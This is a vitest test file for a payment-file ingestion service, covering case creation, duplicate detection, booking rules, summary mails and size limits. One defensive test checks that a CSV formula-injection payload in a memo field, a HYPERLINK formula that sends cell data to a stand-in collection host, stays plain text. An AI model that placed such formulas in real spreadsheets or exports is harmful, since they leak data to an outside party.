import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type CaughtMail, type Deployment, startDeployment } from '../support/deployment.ts';
import { until } from '../support/patiently.ts';
import {
  dayFile,
  EXPENSES,
  FINANCE,
  type PaymentCase,
  paymentCases,
  samplePayment,
  sendFile,
} from '../support/payments.ts';

const LINES = 40;

let remit: Deployment;
let sent: Awaited<ReturnType<typeof sendFile>>;
let summary: CaughtMail;
beforeAll(async () => {
  remit = await startDeployment();
  sent = await sendFile(remit.url, dayFile());
  summary = await summaryMail(1);
}, 400_000);
afterAll(() => remit?.stop());

/** A large file takes its time. */
const LARGE_FILE = { forMs: 250_000, everyMs: 250 };

/** The newest mail about a file, once there are so many of them: a moment after all cases are decided. */
async function summaryMail(count: number, cases = LINES): Promise<CaughtMail> {
  await until(
    async () => {
      const found = await paymentCases(remit.url);
      return found.length >= cases && found.every(({ state }) => state !== 'open');
    },
    `${cases} cases of a file`,
    LARGE_FILE,
  );
  // The longest that it waits between two looks.
  await remit.advance(301);
  const mails = async () => (await remit.mails(FINANCE)).filter(({ subject }) => / lines?: /.test(subject));
  await until(async () => (await mails()).length >= count, `${count} mails about a file`, LARGE_FILE);
  const [newest] = await mails();
  if (newest === undefined) throw new Error('There is no mail about a file');
  return newest;
}

async function casesById(): Promise<ReadonlyMap<string, PaymentCase>> {
  return new Map((await paymentCases(remit.url)).map((one) => [String(one.input['id'] ?? 'unreadable'), one]));
}

/** Everything that was kept or done, as text that changes when any of it does. */
async function everything(): Promise<string> {
  const cases = await paymentCases(remit.url);
  const whole = await Promise.all(
    cases.map(async ({ caseId }) => [await remit.waitFor(caseId, () => true), await remit.effects(caseId)]),
  );
  return JSON.stringify(whole);
}

function factOf({ text }: CaughtMail, label: string): string {
  return new RegExp(`^${label}: +(.*)$`, 'm').exec(text)?.[1] ?? `no ${label}`;
}

function wordsFor(minors: readonly number[]): string {
  const sum = minors.reduce((total, minor) => total + minor, 0);
  return `${(sum / 100).toFixed(2)} EUR (${minors.length} ${minors.length === 1 ? 'line' : 'lines'})`;
}

describe("a day's file", () => {
  it('is taken with one answer, and each of its lines becomes a case of its own', async () => {
    expect(sent).toEqual({ status: 202, batchId: expect.stringMatching(/^[0-9a-f]{32}$/) });
    const cases = await paymentCases(remit.url);
    expect(cases).toHaveLength(LINES);
    expect(new Set(cases.map(({ trigger }) => trigger))).toEqual(new Set(['card-transaction']));
    expect(cases.filter(({ state }) => state === 'open')).toEqual([]);
  });

  it('has a broken line, which is a case for a person with what is wrong and what stood there', async () => {
    const broken = (await paymentCases(remit.url)).filter(({ problems }) => problems.length > 0);
    expect(broken).toMatchObject([
      {
        state: 'waiting',
        problems: [
          'The line: It has 9 cells, and the heading has 11.',
          expect.stringMatching(/^It begins in line \d+ of/),
        ],
        input: { line: expect.stringContaining('D-2040') },
      },
    ]);
  });

  it('is text and nothing else: formulas, quotation marks and line breaks stay as they came', async () => {
    const cases = await casesById();
    expect(cases.get('D-2037')?.input['memo']).toBe('=HYPERLINK("http://collect.example/?x="&A1,"markers")');
    expect(cases.get('D-2039')?.input['memo']).toBe('seminar for team leads,\nparticipants: Hana, Frida');
  });

  it('tells a line of an earlier one with the same card, merchant and amount, and does not book it', async () => {
    const cases = await casesById();
    const [first, second] = [cases.get('D-2002'), cases.get('D-2035')];
    expect(first?.decision).toMatchObject({ duplicateOf: null });
    expect(second).toMatchObject({ state: 'waiting', decision: { duplicateOf: 'D-2002' } });
    expect(await remit.effects(second?.caseId ?? '')).toEqual([]);
  });

  it('books small payments alone, and asks about all others', async () => {
    const cases = (await paymentCases(remit.url)).filter(({ problems }) => problems.length === 0);
    for (const { caseId, input } of cases) {
      const booked = (await remit.effects(caseId)).filter(({ connector }) => connector === 'sandbox.books-entry');
      if (Number(input['amountMinor']) >= 10_000) expect([input['id'], booked]).toEqual([input['id'], []]);
      expect(booked.length).toBeLessThanOrEqual(1);
    }
    const closed = cases.filter(({ state }) => state === 'closed');
    expect(closed.length).toBeGreaterThanOrEqual(LINES / 2);
  });

  it('ends in a mail to the finance manager that says what was found, in money', async () => {
    const cases = (await paymentCases(remit.url)).filter(({ problems }) => problems.length === 0);
    const minorOf = ({ input }: PaymentCase) => Number(input['amountMinor']);
    const own = cases.filter(({ input }) => input['currency'] === 'EUR');
    const booked = await Promise.all(cases.map(async (one) => [one, await remit.effects(one.caseId)] as const));

    expect(factOf(summary, 'Wasteful')).toBe(
      wordsFor(own.filter(({ decision }) => decision?.['isWasteful'] === true).map(minorOf)),
    );
    expect(factOf(summary, 'Charged twice')).toBe('36.10 EUR (1 line)');
    expect(factOf(summary, 'Against the rules')).toBe('12.99 EUR (1 line)');
    expect(factOf(summary, 'Booked')).toBe(
      wordsFor(
        booked
          .filter(([, effects]) => effects.some(({ connector }) => connector.includes('books')))
          .map(([one]) => minorOf(one)),
      ),
    );
    const waiting = own.filter(({ state }) => state === 'waiting').map(minorOf);
    const sum = (waiting.reduce((total, minor) => total + minor, 0) / 100).toFixed(2);
    expect(factOf(summary, 'Asked')).toBe(`${sum} EUR, 240.00 NOK (${waiting.length + 1} lines)`);
    expect(factOf(summary, 'Lines')).toBe('40: 40 new, 1 not readable');
    expect(summary.to).toEqual([FINANCE]);
  });

  it('changes nothing when it comes again, and the mail says so', async () => {
    const before = await everything();

    const again = await sendFile(remit.url, dayFile());
    const mail = await summaryMail(2);

    expect(again.status).toBe(202);
    expect(again.batchId).not.toBe(sent.batchId);
    expect(await everything()).toBe(before);
    expect(mail.text).toContain('Every line had come before. Nothing was begun or done again');
    expect(factOf(mail, 'Lines')).toBe('40: 40 had come before, 1 not readable');
    expect(factOf(mail, 'Booked')).toBe(factOf(summary, 'Booked'));
  });

  it('and a single payment are one case where they speak of the same', async () => {
    const [first] = (await paymentCases(remit.url)).filter(({ input }) => input['id'] === 'D-2001');
    const cells = dayFile().split('\n')[1]?.split(',') ?? [];
    const names = dayFile().split('\n')[0]?.split(',') ?? [];
    const payment = Object.fromEntries(names.map((name, index) => [name, cells[index] ?? '']));
    const { caseId } = await remit.trigger(EXPENSES, payment);
    expect(caseId).toBe(first?.caseId);
    expect(await remit.effects(caseId)).toHaveLength(1);
  });

  it('of JSON lines is read too, with a line that cannot be read', async () => {
    const lines = ['J-1', 'J-2'].map((id) =>
      JSON.stringify(samplePayment('small-payment', { id, card: `card-${id}` })),
    );
    await sendFile(remit.url, [...lines, '{"id":"J-3"'].join('\n'), 'application/jsonl');
    const mail = await summaryMail(3, LINES + 3);
    expect(mail.subject).toContain('3 lines');
    expect(factOf(mail, 'Lines')).toBe('3: 3 new, 1 not readable');
    expect([...(await casesById()).keys()]).toEqual(expect.arrayContaining(['J-1', 'J-2']));
  });

  it('that cannot be split is a case for a person, with what is wrong', async () => {
    const { status, batchId = '' } = await sendFile(remit.url, 'id,id,amount\n1,1,2\n');
    expect(status).toBe(202);
    const asked = await remit.waitFor(batchId, ({ state }) => state === 'waiting');
    expect(asked.verdict?.reasons[0]?.text).toContain('The column "id" stands twice in the heading.');
  });

  it('that is too large is refused before anything of it is read', async () => {
    expect(await sendFile(remit.url, `id\n${'"\n'.repeat(99_000)}`)).toMatchObject({ status: 413 });
    expect(await sendFile(remit.url, 'x'.repeat(200_001))).toMatchObject({ status: 413 });
  });
});
